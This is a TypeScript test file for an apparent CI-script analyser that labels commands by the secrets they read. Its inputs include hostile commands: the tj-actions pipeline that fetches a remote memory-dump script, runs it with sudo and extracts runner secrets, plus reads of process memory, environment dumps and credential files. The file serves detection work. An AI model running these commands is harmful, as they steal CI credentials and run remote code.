import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  classifyCallSource,
  classifyCommandSource,
  credentialFile,
  credentialFileWrite,
  normaliseHome,
  type ToolSource,
} from '../../src/analysis/tool-sources.js';
import { parseScript } from '../../src/scripts/index.js';
import type { Language, Script } from '../../src/scripts/types.js';
import { call, cmd, script, v, write } from './ir-builders.js';

/** The source kinds of every command/call in a parsed snippet, in order. */
async function kinds(code: string, language: Language = 'bash'): Promise<string[]> {
  const s = await parseScript(code, language);
  return sourcesOf(s).map((x) => x.kind);
}

function sourcesOf(s: Script): ToolSource[] {
  return s.ops.flatMap((op) =>
    op.kind === 'command'
      ? [classifyCommandSource(op, s)]
      : op.kind === 'call'
        ? [classifyCallSource(op, s)]
        : op.kind === 'inline' && op.script
          ? sourcesOf(op.script)
          : [],
  );
}

async function first(code: string, language: Language = 'bash'): Promise<ToolSource> {
  const s = await parseScript(code, language);
  const [x] = sourcesOf(s);
  assert.ok(x, code);
  return x;
}

describe('whole-environment reads', () => {
  for (const code of [
    'env',
    'printenv',
    'set',
    'compgen -e',
    'cat /proc/self/environ',
    'cat /proc/$PPID/environ',
    'strings /proc/*/environ',
    'cat $GITHUB_ENV',
    'cat "$GITHUB_ENV"',
  ]) {
    it(code, async () => assert.equal((await first(code)).kind, 'env-all'));
  }
  it('declaration builtins (built IR: the bash parser keeps no op for them)', () => {
    for (const [name, args] of [
      ['export', ['-p']],
      ['export', []],
      ['declare', ['-p']],
      ['declare', ['-x']],
      ['typeset', ['-px']],
    ] as const) {
      const op = cmd(name, [...args]);
      assert.equal(classifyCommandSource(op, script([op])).kind, 'env-all', `${name} ${args.join(' ')}`);
    }
    const one = cmd('declare', ['-p', 'TOKEN']);
    assert.deepEqual(classifyCommandSource(one, script([one])), { kind: 'env-var', names: ['TOKEN'] });
  });
  it('not: set -e, export X=1, env with a command', async () => {
    assert.equal((await first('set -euo pipefail')).kind, 'none');
    assert.ok(!(await kinds('export X=1')).includes('env-all'));
    assert.notEqual((await first('set -x')).kind, 'env-all');
  });
  it('printenv NAME reads one variable', async () => {
    assert.deepEqual(await first('printenv AWS_SECRET_ACCESS_KEY'), {
      kind: 'env-var',
      names: ['AWS_SECRET_ACCESS_KEY'],
    });
  });
  it('PowerShell Get-ChildItem env:', async () => {
    assert.equal((await first('Get-ChildItem env:', 'powershell')).kind, 'env-all');
    assert.deepEqual(await first('Get-Item env:GITHUB_TOKEN', 'powershell'), {
      kind: 'env-var',
      names: ['GITHUB_TOKEN'],
    });
  });
  it('python os.environ and node process.env', () => {
    assert.equal(classifyCallSource(call('os.environ.copy'), script([])).kind, 'env-all');
    assert.equal(classifyCallSource(call('dict', [[{ kind: 'env-all' }]]), script([])).kind, 'env-all');
    assert.equal(
      classifyCallSource(call('JSON.stringify', [[{ kind: 'env-all' }]]), script([])).kind,
      'env-all',
    );
    assert.deepEqual(classifyCallSource(call('os.getenv', ['NPM_TOKEN']), script([])), {
      kind: 'env-var',
      names: ['NPM_TOKEN'],
    });
    assert.equal(
      classifyCallSource(call('System.Environment.GetEnvironmentVariables'), script([])).kind,
      'env-all',
    );
  });
});

describe('runner memory (tj-actions)', () => {
  it('the tj-actions pipeline: memdump.py piped to python, isSecret filter, base64 twice', async () => {
    const k = await kinds(
      `curl -sSf https://gist.githubusercontent.com/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0`,
    );
    assert.deepEqual(k, [
      'none',
      'memory',
      'passthrough',
      'memory',
      'passthrough',
      'passthrough',
      'passthrough',
    ]);
  });
  it('memdump.py itself: open() of /proc/<pid>/maps and mem through variables', async () => {
    const k = await kinds(
      'import os\npid = get_pid()\nmap_path = f"/proc/{pid}/maps"\nmem_path = f"/proc/{pid}/mem"\nwith open(map_path, "r") as map_f, open(mem_path, "rb", 0) as mem_f:\n    pass',
      'python',
    );
    assert.deepEqual(k, ['none', 'memory', 'memory']);
  });
  it('open(os.path.join("/proc", pid, "mem"))', async () => {
    const k = await kinds('import os\nopen(os.path.join("/proc", pid, "mem"))', 'python');
    assert.ok(k.includes('memory'));
  });
  it('shell shapes: dd of /proc/PID/mem, gcore, gdb -p, pgrep/ps Runner.Worker', async () => {
    assert.equal((await first('dd if=/proc/$PID/mem bs=1 skip=$S count=$N')).kind, 'memory');
    assert.equal((await first('cat /proc/$pid/maps')).kind, 'memory');
    assert.equal((await first('gcore -o dump $PID')).kind, 'memory');
    assert.equal((await first('gdb -p 1234 -batch')).kind, 'memory');
    assert.equal((await first('pgrep -f Runner.Worker')).kind, 'memory');
    const ps = await kinds('ps aux | grep Runner.Worker');
    assert.ok(ps.includes('memory'));
    assert.equal((await first('cat /proc/meminfo')).kind, 'passthrough');
  });
});

describe('credential files', () => {
  it('recognises the files tools read', () => {
    const cases: [string, string][] = [
      ['~/.npmrc', 'npm'],
      ['$HOME/.npmrc', 'npm'],
      ['/home/runner/.pypirc', 'twine'],
      ['/root/.netrc', 'netrc (curl, git, pip, wget)'],
      ['${HOME}/.docker/config.json', 'docker'],
      ['~/.git-credentials', 'git'],
      ['.env', 'dotenv'],
      ['app/.env.production', 'dotenv'],
      ['~/.aws/credentials', 'aws'],
      ['~/.config/gh/hosts.yml', 'gh'],
      ['~/.kube/config', 'kubectl'],
      ['~/.ssh/id_ed25519', 'ssh'],
      ['~/.cargo/credentials.toml', 'cargo'],
      ['~/.gem/credentials', 'gem'],
    ];
    for (const [path, tool] of cases) assert.equal(credentialFile(path)?.tool, tool, path);
    assert.equal(credentialFile('README.md'), null);
    assert.equal(credentialFile('.envrc'), null);
    assert.equal(normaliseHome('$HOME/x'), '~/x');
  });
  it('reads: cat ~/.npmrc, base64 ~/.docker/config.json, git config --get extraheader, gh auth token', async () => {
    assert.deepEqual((await first('cat ~/.npmrc')).kind, 'credential-read');
    assert.equal((await first('base64 -w0 $HOME/.docker/config.json')).kind, 'credential-read');
    assert.equal((await first('git config --get http.https://github.com/.extraheader')).file, '.git/config');
    assert.deepEqual(await first('gh auth token'), { kind: 'env-var', names: ['GH_TOKEN', 'GITHUB_TOKEN'] });
    assert.equal((await first('aws ecr get-login-password --region us-east-1')).kind, 'env-var');
    assert.equal((await first('gcloud auth print-access-token')).kind, 'credential-read');
  });
  it('python and node file reads', () => {
    assert.equal(
      classifyCallSource(call('open', ['/home/runner/.pypirc']), script([])).kind,
      'credential-read',
    );
    assert.equal(
      classifyCallSource(call('fs.readFileSync', [[v('HOME'), '/.npmrc']]), script([])).kind,
      'credential-read',
    );
    assert.equal(classifyCallSource(call('open', ['setup.py']), script([])).kind, 'none');
  });
  it('writes by path (engine) and by op', () => {
    assert.match(credentialFileWrite('~/.npmrc') ?? '', /npm/);
    assert.equal(credentialFileWrite('dist/out.txt'), null);
    assert.deepEqual(credentialFileWrite(write([v('HOME'), '/.pypirc'], v('CFG'))), {
      file: '~/.pypirc',
      tool: 'twine',
    });
    assert.deepEqual(credentialFileWrite(cmd('docker', ['login', '-u', 'me', '--password-stdin'])), {
      file: '~/.docker/config.json',
      tool: 'docker',
    });
    assert.deepEqual(
      credentialFileWrite(cmd('npm', ['config', 'set', '//registry.npmjs.org/:_authToken', v('T')])),
      {
        file: '~/.npmrc',
        tool: 'npm',
      },
    );
    assert.equal(credentialFileWrite(cmd('npm', ['config', 'set', 'fund', 'false'])), null);
    assert.deepEqual(
      credentialFileWrite(
        cmd('git', [
          'config',
          '--global',
          ['url.https://x:', v('T'), '@github.com/.insteadOf'],
          'https://github.com/',
        ]),
      ),
      { file: '~/.gitconfig', tool: 'git' },
    );
    assert.deepEqual(credentialFileWrite(cmd('tee', ['-a', '~/.netrc'])), {
      file: '~/.netrc',
      tool: 'netrc (curl, git, pip, wget)',
    });
    assert.deepEqual(credentialFileWrite(cmd('aws', ['configure', 'set', 'aws_secret_access_key', v('K')])), {
      file: '~/.aws/credentials',
      tool: 'aws',
    });
    assert.deepEqual(credentialFileWrite(call('fs.writeFileSync', ['.npmrc', v('X')])), {
      file: '~/.npmrc',
      tool: 'npm',
    });
    assert.equal(credentialFileWrite(cmd('git', ['config', 'user.name', 'bot'])), null);
  });
});

describe('OIDC', () => {
  it('curl with ACTIONS_ID_TOKEN_REQUEST_*', async () => {
    const s = await first(
      'curl -sH "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com"',
    );
    assert.equal(s.kind, 'oidc');
  });
  it('core.getIDToken and python env reads', () => {
    assert.equal(classifyCallSource(call('core.getIDToken', ['aud']), script([])).kind, 'oidc');
    assert.equal(
      classifyCallSource(call('requests.get', [[v('ACTIONS_ID_TOKEN_REQUEST_URL', 'yes')]]), script([])).kind,
      'oidc',
    );
  });
});

describe('re-encoders keep taint', () => {
  for (const c of [
    'base64',
    'base32',
    'xxd -p',
    'od -An -tx1',
    'hexdump -C',
    'rev',
    "tr 'a-z' 'n-za-m'",
    'sed s/a/b/',
    'awk 1',
    'cut -c1-4',
    'gzip -c',
    'openssl enc -aes-256-cbc -k x',
    'jq -r .',
    'echo x',
  ]) {
    it(c, async () => assert.equal((await first(c)).kind, 'passthrough'));
  }
  it('python/js/pwsh encoders', () => {
    for (const c of [
      'base64.b64encode',
      'binascii.hexlify',
      'codecs.encode',
      'Buffer.from',
      'btoa',
      'System.Convert.ToBase64String',
    ]) {
      assert.equal(classifyCallSource(call(c, [v('T')]), script([])).kind, 'passthrough', c);
    }
  });
  it('sha256sum and ls are not', async () => {
    assert.equal((await first('sha256sum f')).kind, 'none');
    assert.equal((await first('ls -la')).kind, 'none');
  });
});
